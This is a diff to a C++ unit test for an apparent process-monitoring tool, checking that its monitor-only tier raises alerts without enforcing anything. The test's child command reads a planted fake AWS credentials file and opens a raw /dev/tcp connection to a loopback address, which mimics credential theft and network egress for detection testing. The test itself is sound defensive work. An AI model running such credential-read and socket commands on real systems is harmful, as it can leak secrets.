@@ -61,7 +61,7 @@ TEST(TierTest, monitor_only_observes_alerts_and_says_loudly_nothing_is_enforced)
   write_file(tmp / "home/.aws/credentials", "secret-creds\n");
   const std::string alerts = tmp / "alerts.jsonl";
   ProcResult r = run({vigil_bin(), "run", "--max-tier", "monitor", "--alerts-json", alerts, "--",
-                      "sh", "-c",
+                      "bash", "-c",
                       "cat ~/.aws/credentials; (exec 3<>/dev/tcp/127.0.0.2/9) 2>/dev/null; true"},
                      {"HOME=" + tmp.path() + "/home"});
   ASSERT_EQ(r.status, 0) << r.err;
